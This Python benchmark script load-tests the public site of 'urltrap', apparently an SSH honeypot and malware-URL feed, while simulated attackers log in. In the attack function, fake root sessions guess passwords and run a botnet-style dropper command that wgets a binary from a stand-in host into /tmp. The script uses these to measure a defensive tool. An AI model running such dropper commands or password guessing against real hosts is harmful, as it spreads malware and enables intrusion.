"""The site for everyone under load while the same machine is attacked: 500 requests a second, p99 at most 100 ms.

`python bench/public.py [--rate 500] [--seconds 30] [--urls 5000] [--attack 10]` fills a data folder with so many URLs,
runs urltrap as it is (`urltrap up`: trap, pipeline, fetcher, public site), lets `hey` ask for a mix of pages at that
rate, and attackers log in over SSH and run commands, so many a second. One JSON line: requests, those that failed,
requests a second, p50, p99 and the slowest in milliseconds, and how many sessions the trap recorded.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import asyncssh
from sqlalchemy import func, insert, select

from urltrap.judge import RULES
from urltrap.model.settings import Settings
from urltrap.model.url import parse_url
from urltrap.ops.init import init_data_folder
from urltrap.pipeline.publishing import gate_of
from urltrap.store import Store, open_store
from urltrap.store.bulk import insert_rows
from urltrap.store.rows import url_key
from urltrap.store.schema import facts, sessions, urls, verdicts
from urltrap.store.schema_public import publications

HOSTS, KINDS = 200, ("x86", "mips", "arm7", "sh4", "mipsel", "ppc")
PATHS = (
    "/",
    "/urls.html",
    "/browse.html",
    "/statistics.html",
    "/feed.csv",
    "/hosts.html",
    "/urls/page-7.html",
    "/api/urls.json",
)
"""Asked for in equal parts, together with pages of single URLs."""


_TOLD = json.dumps(
    {
        "verdict": "malicious-observed",
        "confidence": 82,
        "reasons": ["run"],
        "delivery": "ssh wget",
        "techniques": [],
    }
)


def fill(store: Store, count: int, settings: Settings) -> list[str]:
    """`count` URLs that are for everyone; their keys."""
    now = datetime.now(UTC).replace(microsecond=0)
    rows, judged, shown = [], [], []
    for n in range(count):
        parsed = parse_url(
            f"http://198.51.{100 + n % 7}.{n % HOSTS + 1}/bins/{n // HOSTS}.{KINDS[n % len(KINDS)]}"
        )
        key, seen = url_key(parsed.text), now - timedelta(hours=1 + n % 900)
        day = seen.replace(hour=0, minute=0, second=0)
        rows.append({
            "key": key, "url": parsed.text, "scheme": parsed.scheme, "host": parsed.host, "port": parsed.port,
            "first_seen": seen, "last_seen": seen, "sightings": 4, "sources": 3, "depth": 0, "held": False, "flags": [],
            "outcome": "fetched", "status": 200, "captured_at": seen, "sha256": None, "kind": "elf",
            "verdict": "malicious-observed", "confidence": 82, "publish_after": seen, "published_at": seen,
            "action": "ddos-botnet", "role": "payload", "delivery": "ssh wget",
            "target": f"linux {KINDS[n % len(KINDS)]}",
            "hosting": "raw-ip", "lifecycle": "online", "family": f"elf.family{n % 9}", "campaign": "",
        })  # fmt: skip
        judged.append({
            "url_key": key, "verdict": "malicious-observed", "confidence": 82, "at": seen, "rules": RULES,
            "reasons": [{"code": "run", "text": "it was run", "weight": 40}], "publish_after": seen, "classes": "{}",
        })  # fmt: skip
        shown.append({"url_key": key, "after": seen, "first": day, "last": day, "told": _TOLD})
    with store.begin() as connection:
        for table, found in ((urls, rows), (verdicts, judged), (publications, shown)):
            insert_rows(connection, table, found)
        known = [{"name": "rules", "value": RULES}, {"name": "gate", "value": gate_of(settings)}]
        connection.execute(insert(facts), known)
    return [row["key"] for row in rows]


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        return int(taken.getsockname()[1])


@contextlib.contextmanager
def running(data: Path, environment: dict[str, str], site: int) -> Iterator[None]:
    """`urltrap up` on this folder, until its public site answers."""
    process = subprocess.Popen(
        [sys.executable, "-m", "urltrap.ops", "up", "--data", str(data)],
        env={**os.environ, **environment}, stdout=subprocess.DEVNULL, stderr=(data / "log").open("wb"),
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while True:
            # Not when it listens: what comes while the store is read for the first time waits until that is done.
            with (
                contextlib.suppress(OSError),
                urllib.request.urlopen(f"http://127.0.0.1:{site}/", timeout=60),
            ):
                break
            if process.poll() is not None or time.monotonic() > deadline:
                raise SystemExit((data / "log").read_text()[-2000:])
            time.sleep(0.2)
        yield
    finally:
        process.terminate()
        process.wait(30)


async def attack(port: int, a_second: float, seconds: float) -> int:
    """Sessions that log in, look around and name a URL; how many got in."""
    done = 0

    async def once(number: int) -> None:
        nonlocal done
        with contextlib.suppress(OSError, asyncssh.Error, TimeoutError):
            async with asyncio.timeout(15), asyncssh.connect(
                "127.0.0.1", port, username="root", password=f"p{number % 50}", known_hosts=None, config=None,
                client_keys=None, agent_path=None,
            ) as connection:  # fmt: skip
                await connection.run("uname -a; cd /tmp; wget http://198.51.100.9/bins/x86; id")
                done += 1

    tasks = []
    begun = time.monotonic()
    while time.monotonic() - begun < seconds:
        tasks.append(asyncio.create_task(once(len(tasks))))
        await asyncio.sleep(1 / a_second)
    await asyncio.gather(*tasks)
    return done


def ask(base: str, paths: list[str], rate: int, seconds: int) -> list[subprocess.Popen[bytes]]:
    """One `hey` for each path, each with its part of the rate."""
    share = max(1, round(rate / len(paths)))
    clients = max(1, min(10, share))
    return [
        subprocess.Popen(
            [
                "hey",
                "-z",
                f"{seconds}s",
                "-c",
                str(clients),
                "-q",
                str(share / clients),
                "-disable-compression",
                "-H",
                "Accept-Encoding: gzip",  # asked for as browsers do; unpacking it is not the site's work
                "-o",
                "csv",
                base + path,
            ],
            stdout=subprocess.PIPE,
        )
        for path in paths
    ]


def answers(asked: list[subprocess.Popen[bytes]]) -> tuple[list[float], int]:
    """Milliseconds of each answer, and how many were no 200."""
    times: list[float] = []
    failed = 0
    for process in asked:
        output = process.communicate()[0].decode()
        for row in csv.DictReader(io.StringIO(output)):
            times.append(float(row["response-time"]) * 1000)
            failed += row["status-code"] != "200"
    return sorted(times), failed


def measure(rate: int, seconds: int, count: int, attackers: float) -> dict[str, object]:
    """The whole bench; what it found."""
    if shutil.which("hey") is None:
        raise SystemExit("this bench needs hey: apt-get install hey")
    with tempfile.TemporaryDirectory(prefix="urltrap-bench-", dir=os.environ.get("BENCH_DIR")) as name:
        data = Path(name) / "data"
        init_data_folder(data)
        site, ssh = free_port(), free_port()
        environment = {
            "URLTRAP_PUBLIC__ENABLED": "true", "URLTRAP_PUBLIC__LISTEN": f"127.0.0.1:{site}",
            "URLTRAP_SITE__ENABLED": "false", "URLTRAP_METRICS__ENABLED": "false", "URLTRAP_BACKUP__ENABLED": "false",
            "URLTRAP_SENSORS__SSH__LISTEN": f'["127.0.0.1:{ssh}"]', "URLTRAP_SENSORS__TELNET__ENABLED": "false",
            "URLTRAP_EGRESS__MODE": "record", "URLTRAP_CREDENTIALS__ACCEPT": '["*:*"]',
        }  # fmt: skip
        settings = Settings.model_validate({"public": {"enabled": True, "listen": f"127.0.0.1:{site}"}})
        store = open_store(str(data / "urltrap.db"))
        keys = fill(store, count, settings)
        store.close()
        paths = [*PATHS, f"/urls/{keys[0]}.html", f"/urls/{keys[-1]}.html"]
        with running(data, environment, site):
            asked = ask(f"http://127.0.0.1:{site}", paths, rate, seconds)
            got_in = asyncio.run(attack(ssh, attackers, seconds)) if attackers else 0
            times, failed = answers(asked)
        store = open_store(str(data / "urltrap.db"))
        with store.connect() as connection:
            recorded = connection.execute(select(func.count()).select_from(sessions)).scalar_one()
        store.close()

    def at(part: float) -> float:
        return round(times[min(len(times) - 1, int(len(times) * part))], 1) if times else -1

    return {
        "urls": count, "asked": rate, "requests": len(times), "failed": failed,
        "per_second": round(len(times) / seconds, 1),
        "p50_ms": at(0.5), "p99_ms": at(0.99), "slowest_ms": at(1), "attackers_in": got_in, "sessions": recorded,
    }  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--rate", type=int, default=500)
    parser.add_argument("--seconds", type=int, default=30)
    parser.add_argument("--urls", type=int, default=5000)
    parser.add_argument("--attack", type=float, default=10)
    given = parser.parse_args()
    print(json.dumps(measure(given.rate, given.seconds, given.urls, given.attack)))


if __name__ == "__main__":
    main()
